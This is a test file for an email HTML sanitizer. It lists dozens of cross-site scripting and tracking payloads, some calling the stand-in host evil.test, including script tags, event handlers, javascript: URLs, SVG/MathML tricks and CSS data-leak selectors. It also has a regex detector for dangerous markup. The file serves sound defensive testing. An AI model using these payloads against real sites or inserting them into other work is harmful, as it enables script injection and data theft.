import { expect, test } from 'vitest';
import { sanitizeHtml } from './sanitize-html.ts';

test.each([
  ['<blockquote type="cite">x</blockquote>', '<blockquote type="cite">x</blockquote>'],
  ['<blockquote class="gmail_quote x">x</blockquote>', '<blockquote type="cite">x</blockquote>'],
  ['<blockquote class="pull-quote">x</blockquote>', '<blockquote>x</blockquote>'],
])('the quote of an earlier message is marked: %s', (html, expected) => {
  expect(sanitizeHtml(html, { images: 'blocked' }).html).toBe(expected);
});

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror = "alert(1)" onload=alert(2)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)>',
  '<object data="https://evil.test/x.swf"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<applet code=evil></applet>',
  '<form action="https://evil.test"><input name=p><button formaction=javascript:alert(1)>x</button></form>',
  '<base href="https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<style>@import url(https://evil.test/x.css);</style>',
  '<style>input[value^=a]{background:url(https://evil.test/a)}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://evil.test/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/api/auth/signout">x</a>',
  '<img src="/api/inbox/send">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="https://evil.test/a.png 1x">',
  '<img lowsrc="https://evil.test/a.png" dynsrc="https://evil.test/b">',
  '<p style="background:url(https://evil.test/x)">x</p>',
  '<p style="background-image:url(\'//evil.test/x\')">x</p>',
  '<p style="background:\\75rl(https://evil.test/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="-moz-binding:url(https://evil.test/x.xml#x)">x</p>',
  '<p style="behavior:url(#evil.test)">x</p>',
  '<p style="position:fixed;top:0;left:0;z-index:9999">x</p>',
  '<p style="color:red;background/**/:url(https://evil.test)">x</p>',
  '<div style="--evil:url(https://evil.test);content:\'evil.test\'">x</div>',
  '<table background="https://evil.test/x.png"><tr><td background="//evil.test/y.png">x</td></tr></table>',
  '<body background="https://evil.test/x" onload=alert(1)>x</body>',
  '<video src="https://evil.test/v" poster="https://evil.test/p" onerror=alert(1)></video>',
  '<audio src="https://evil.test/a" autoplay>',
  '<input type=image src="https://evil.test/a" onfocus=alert(1) autofocus>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<details open ontoggle=alert(1)>x</details>',
  '<div id="root" class="app" contenteditable onclick=alert(1) data-x=1>x</div>',
  '<a name="x" id="cookie" ping="https://evil.test" download href="https://ok.test/">x</a>',
  '<p data-blocked-src="javascript:alert(1)">x</p>',
  '<img data-blocked-src="javascript:alert(1)">',
  '<frameset><frame src="https://evil.test"></frameset>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<portal src="https://evil.test"></portal>',
  '<p style="color:red" style="background:url(https://evil.test)">x</p>',
  '"><img src=x onerror=alert(1)>',
  '<img alt="`><script>alert(1)</script>`" src=x>',
  `<a href="https://ok.test/" ${'x'.repeat(5_000)}onmouseover=alert(1)>x</a>`,
];

/** Attributes and elements that the page would act on, read from the tags of the answer. */
function dangers(html: string): string[] {
  return (html.match(/<[a-z][^>]*>/gi) ?? []).filter(
    (tag) =>
      /^<(?:script|style|iframe|object|embed|form|input|button|base|link|meta|svg|math|video|audio|frame|body)/i.test(
        tag,
      ) ||
      /\s(?:on\w+|id|class|srcset|srcdoc|ping|action|formaction|contenteditable|poster|lowsrc)\s*=/i.test(
        tag.replace(/"[^"]*"/g, '""'),
      ) ||
      /\s(?:href|src|background)="(?!https?:|mailto:|tel:|cid:|data:image\/(?!svg))/i.test(tag) ||
      /\s(?:src|background)="https?:/i.test(tag) ||
      /style="[^"]*(?:url|expression|\\|position|binding|behavior|@|--)/i.test(tag),
  );
}

test.each(hostile.map((html) => [html.slice(0, 80), html]))(
  'hostile markup leaves nothing that acts: %s',
  (_, html) => {
    const { html: safe } = sanitizeHtml(html, { images: 'blocked' });
    expect(dangers(safe)).toEqual([]);
    expect(safe).not.toMatch(/<!--|<!\[|<\?/);
    // Idempotent: sanitizing the result removes nothing.
    const again = safe
      .replace(/<img([^>]*) data-blocked-src=/g, '<img$1 src=')
      .replaceAll('data-blocked-src', 'background');
    expect(sanitizeHtml(again, { images: 'blocked' }).html).toBe(safe);
  },
);

test('the check itself detects unsafe HTML', () => {
  for (const html of [
    '<script>',
    '<img src="x" onerror="y">',
    '<a href="javascript:x">',
    '<p style="a:url(x)">',
    '<img src="https://a">',
  ]) {
    expect(dangers(html)).toHaveLength(1);
  }
});

test('remote images are blocked and counted until they are shown', () => {
  const html =
    '<img src="https://a.test/1.png" alt="one"><img src="//a.test/2.png"><td background="http://a.test/3.png">x';
  const blocked = sanitizeHtml(html, { images: 'blocked' });
  expect(blocked.blockedImages).toBe(3);
  expect(blocked.html).toContain('<img alt="one" data-blocked-src="https://a.test/1.png" />');
  const shown = sanitizeHtml(html, { images: 'shown' });
  expect(shown.blockedImages).toBe(0);
  expect(shown.html).toContain('src="https://a.test/2.png"');
});

test('enclosed images stay in place', () => {
  const html = '<img src="cid:logo@x" /><img src="data:image/png;base64,iVBORw0KGgo=" />';
  expect(sanitizeHtml(html, { images: 'blocked' })).toMatchObject({ html, blockedImages: 0 });
});

test('a link opens a new tab and sends no referrer', () => {
  expect(
    sanitizeHtml('<a href="https://a.test/?x=1&amp;y=2" target=_top rel=opener>x</a>', { images: 'blocked' })
      .html,
  ).toBe('<a href="https://a.test/?x=1&amp;y=2" target="_blank" rel="noopener noreferrer nofollow">x</a>');
});

test('harmless style and structure survive', () => {
  const html =
    '<table width="600" cellpadding="0"><tbody><tr><td colspan="2" style="color:#333;padding:4px 8px">a <b>b</b></td></tr></tbody></table>';
  expect(sanitizeHtml(html, { images: 'blocked' }).html).toBe(html);
});

test('markup nested a hundred thousand deep is answered with its text', () => {
  const { html } = sanitizeHtml(`${'<div>'.repeat(100_000)}deep &amp; <i>down</i>`, { images: 'blocked' });
  expect(html).toContain('deep &amp;  down');
  expect(html.length).toBeLessThan(200_000);
});

test("only the email's own inline images are shown, from an address of this app", () => {
  const pictures = new Map([['logo@x', '/attachments/m1/2']]);
  const html =
    '<img src="cid:logo@x"><img src="CID:logo%40x"><img src="cid:other@y"><img src="cid:../../api/search">' +
    '<img src="/attachments/m2/2"><td background="cid:logo@x"></td>';
  const safe = sanitizeHtml(html, { images: 'blocked', pictures });
  expect(safe.html).toBe(
    '<img src="/attachments/m1/2" /><img src="/attachments/m1/2" /><img /><img /><img /><td background="/attachments/m1/2"></td>',
  );
  expect([...safe.shownPictures]).toEqual(['logo@x']);
});
